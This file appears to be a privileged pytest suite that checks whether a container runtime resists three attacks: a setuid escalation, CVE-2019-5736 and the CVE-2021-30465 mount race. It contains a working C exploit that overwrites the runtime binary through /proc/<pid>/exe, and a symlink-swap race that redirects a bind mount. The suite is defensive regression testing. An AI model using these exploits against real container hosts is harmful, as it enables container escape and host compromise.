"""Attacks on the runtime itself, each performed for real against provision-runtime (and the
same bundle under runc where runc has the defence too): a setuid binary against
noNewPrivileges, a container overwriting the runtime binary through /proc/<pid>/exe
(CVE-2019-5736), and a symlink swapped into a volume while its mount is being made
(CVE-2021-30465).
"""
from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

import runtime_helpers as h
from runtime_helpers import RT, RUNTIMES, bundle, prt, runtime_bin  # noqa: F401  (fixtures are used by name)

pytestmark = [
    pytest.mark.privileged,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, cgroups, mounts)"),
    pytest.mark.skipif(not os.path.exists(h.BUSYBOX), reason="needs busybox-static (/bin/busybox)"),
]

EUID_C = r"""
#include <stdio.h>
#include <unistd.h>
int main(void) { printf("euid=%d\n", (int)geteuid()); return 0; }
"""

# Any filter will do: what matters is that one gets loaded.
SECCOMP = {"defaultAction": "SCMP_ACT_ALLOW", "architectures": ["SCMP_ARCH_X86_64"],
           "syscalls": [{"names": ["kexec_load"], "action": "SCMP_ACT_ERRNO"}]}


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize("nnp", [False, True], ids=["nnp-off", "nnp-on"])
def test_seccomp_leaves_no_new_privs_as_configured(runtime, nnp, runtime_bin, tmp_path):
    """uid 65534 runs a setuid-root binary under a seccomp filter: with noNewPrivileges
    false the exec gains euid 0 (the filter must not switch no_new_privs on behind the
    config's back, as libseccomp does by default); with it true, it does not."""
    rootfs = h.make_rootfs(tmp_path / "rootfs")
    h.compile_static(EUID_C, rootfs / "bin" / "euid", mode=0o4755)

    def config(cfg):
        cfg["process"]["user"] = {"uid": 65534, "gid": 65534}
        cfg["process"]["noNewPrivileges"] = nnp
        cfg["linux"]["seccomp"] = SECCOMP
    b = bundle(tmp_path, rootfs, args=["sh", "-c", "grep NoNewPrivs /proc/self/status; /bin/euid"], config=config)
    r = RT(runtime, runtime_bin, tmp_path / "state")
    proc = r.run(b)
    r.cleanup()
    assert proc.returncode == 0, proc.stderr
    seen = h.parse_kv(proc.stdout.replace(":\t", "="))
    assert seen["NoNewPrivs"] == ("1" if nnp else "0"), proc.stdout
    assert seen["euid"] == ("65534" if nnp else "0"), proc.stdout


# The CVE-2019-5736 attack, as a container's init.  /tmp/target is a script whose
# interpreter is /proc/self/exe: exec'ing it from a process that still runs the runtime's
# binary runs that binary again, now as a container process the attacker may inspect.  Its
# --log names a FIFO, so it blocks opening the log until we have taken hold of its
# /proc/<pid>/exe (O_PATH); once no process executes the file any more (ETXTBSY gone) we
# reopen it for writing through that descriptor and write over its first bytes.  Every step
# goes to /out/report.
ATTACK_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void report(const char *fmt, ...) {
  char buf[4200];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
  va_end(ap);
  buf[n++] = '\n';
  int fd = open("/out/report", O_WRONLY | O_APPEND | O_CREAT, 0644);
  if (write(fd, buf, n) < 0) _exit(3);
  close(fd);
}

static void pause_ms(long ms) {
  struct timespec ts = {0, ms * 1000000L};
  nanosleep(&ts, NULL);
}

int main(void) {
  if (mkfifo("/tmp/log.fifo", 0600) < 0) { report("mkfifo: %s", strerror(errno)); return 1; }
  int t = open("/tmp/target", O_WRONLY | O_CREAT | O_TRUNC, 0755);
  const char script[] = "#!/proc/self/exe --log=/tmp/log.fifo\n";
  if (t < 0 || write(t, script, sizeof script - 1) < 0) { report("target: %s", strerror(errno)); return 1; }
  close(t);
  char self[4096];
  ssize_t sn = readlink("/proc/self/exe", self, sizeof self - 1);
  self[sn > 0 ? sn : 0] = '\0';
  report("ready");
  int exe = -1;
  char link[4096] = "";
  while (exe < 0) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && exe < 0 && (e = readdir(d));) {
      char p[64];
      if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
      snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
      ssize_t n = readlink(p, link, sizeof link - 1);
      if (n <= 0) continue; /* not ours to inspect (yet) */
      link[n] = '\0';
      if (strcmp(link, self) == 0) continue;
      exe = open(p, O_PATH | O_CLOEXEC);
    }
    if (d) closedir(d);
    if (exe < 0) pause_ms(1);
  }
  report("holding %s", link);
  /* let the stuck runtime write its log line and exit */
  int fifo = open("/tmp/log.fifo", O_RDONLY);
  char buf[512];
  while (read(fifo, buf, sizeof buf) > 0) {}
  close(fifo);
  char fdpath[64];
  snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", exe);
  for (int i = 0; i < 20000; i++) {
    int w = open(fdpath, O_WRONLY | O_CLOEXEC);
    if (w < 0 && errno == ETXTBSY) { pause_ms(1); continue; }
    if (w < 0) { report("open for writing: %s", strerror(errno)); break; }
    ssize_t n = pwrite(w, "PWNED", 5, 0);
    report(n == 5 ? "overwrote the runtime" : "write: %s", strerror(errno));
    close(w);
    break;
  }
  report("done");
  for (;;) pause();
}
"""


@pytest.mark.parametrize("runtime,seal", [
    ("provision-runtime", "readonly-clone"),
    ("provision-runtime", "memfd"),  # the fallback where open_tree/mount_setattr are missing
    pytest.param("runc", "", marks=RUNTIMES[1].marks),
])
def test_exec_cannot_overwrite_the_runtime_binary(runtime, seal, runtime_bin, tmp_path):
    """CVE-2019-5736: a container whose process is exec'd while the runtime's own binary
    still runs in it reopens that binary through /proc/<pid>/exe and writes to it.  The
    runtime must be running from a sealed binary by then, so the host binary stays intact.
    The attack targets a copy of the binary (so a vulnerable runtime ruins only the copy)."""
    r = RT(runtime, runtime_bin, tmp_path / "state")
    rootfs = h.make_rootfs(tmp_path / "rootfs")
    h.compile_static(ATTACK_C, rootfs / "bin" / "attack")
    copy_shared_libraries(r.exe, rootfs)  # as in any glibc-based image: the runtime can start there
    out = tmp_path / "out"
    out.mkdir()

    def config(cfg):
        cfg["mounts"].append({"destination": "/out", "type": "bind", "source": str(out), "options": ["rbind"]})
    b = bundle(tmp_path, rootfs, args=["/bin/attack"], config=config)
    victim = tmp_path / f"{runtime}-copy"
    shutil.copy2(r.exe, victim)
    before = sha256(victim)
    report = out / "report"
    cid = r.new_id()
    try:
        r.cli("create", "--bundle", b, cid)
        r.cli("start", cid)
        h.wait_for(lambda: report.exists() and "ready" in report.read_text(), what="the attacker to be ready")
        env = dict(os.environ, _PROVISION_RUNTIME_SEAL=seal)
        subprocess.run(r.argv_with(exe=str(victim)) + ["exec", cid, "/tmp/target"],
                       capture_output=True, timeout=30, stdin=subprocess.DEVNULL, env=env)
        h.wait_for(lambda: "done" in report.read_text(), timeout=30, what="the attack to finish")
    finally:
        r.cleanup()
    steps = report.read_text()
    assert "holding " in steps, steps  # the attack really got hold of the runtime's exe
    if seal:
        assert ("memfd:" in steps) == (seal == "memfd"), steps
    assert "overwrote the runtime" not in steps, steps
    assert sha256(victim) == before, steps


def copy_shared_libraries(binary: str, rootfs: Path) -> None:
    """The dynamic loader and libraries binary needs, at the same paths under rootfs."""
    out = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout  # none if static
    for lib in re.findall(r"(/\S+) \(0x", out):
        dest = rootfs / lib.lstrip("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(os.path.realpath(lib), dest)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- CVE-2021-30465: a mount target swapped for a symlink ---------------------------------
def test_swapped_mount_target_cannot_redirect_a_bind_mount(prt, tmp_path):
    """A volume shared with another container (played here by the test) holds the
    destination of a later bind mount.  Right after the runtime created that destination and
    resolved it safely inside the rootfs, the other side swaps it for a symlink to a host
    path.  strace holds every mount(2) for a moment, which opens that window wide and makes
    the race deterministic.  Mounting by path string would follow the symlink and land the
    bind mount on the host path; mounting through the descriptor the resolution returned
    cannot.  The host path is on a shared mount and the container's root rshared, so a mount
    that lands there shows on the host."""
    if shutil.which("strace") is None:
        pytest.skip("needs strace (to hold mount(2) open while the symlink is swapped)")
    shared = tmp_path / "shared"  # the host side of the propagation
    shared.mkdir()
    subprocess.run(["mount", "--bind", str(shared), str(shared)], check=True)
    subprocess.run(["mount", "--make-shared", str(shared)], check=True)
    try:
        rootfs = h.make_rootfs(tmp_path / "rootfs")
        vol, outside, secret = tmp_path / "vol", shared / "outside", tmp_path / "secret"
        for d in (vol, outside, secret):
            d.mkdir()
        (secret / "marker").write_text("mounted here\n")

        def config(cfg):
            cfg["root"]["readonly"] = False
            cfg["mounts"] = [
                {"destination": "/vol", "type": "bind", "source": str(vol), "options": ["rbind"]},
                {"destination": "/vol/x", "type": "bind", "source": str(secret), "options": ["rbind"]},
            ]
            cfg["linux"]["rootfsPropagation"] = "rshared"
            cfg["linux"]["maskedPaths"] = cfg["linux"]["readonlyPaths"] = []
        # the directory the runtime resolved is now called x.moved: the mount belongs there
        b = bundle(tmp_path, rootfs, args=["cat", "/vol/x.moved/marker"], config=config)
        swapped = threading.Event()

        def swap():
            target = vol / "x"
            end = time.monotonic() + 60
            while not target.is_dir() and time.monotonic() < end:
                time.sleep(0.001)
            time.sleep(0.1)  # the runtime has resolved it and sits in the held mount(2)
            target.rename(vol / "x.moved")
            target.symlink_to(outside)
            swapped.set()
        racer = threading.Thread(target=swap, daemon=True)
        racer.start()
        argv = ["strace", "-f", "-qq", "-o", "/dev/null", "-e", "trace=mount",
                "-e", "inject=mount:delay_enter=400000"] + prt.base + ["run", "--bundle", str(b), prt.new_id()]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
        racer.join(timeout=60)
        assert swapped.is_set(), "the runtime never created /vol/x"
        assert not (outside / "marker").exists(), "the bind mount followed the swapped symlink onto a host path"
        assert not os.path.ismount(outside)
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout == "mounted here\n"
    finally:
        subprocess.run(["umount", "--recursive", "--lazy", str(shared)], check=False)
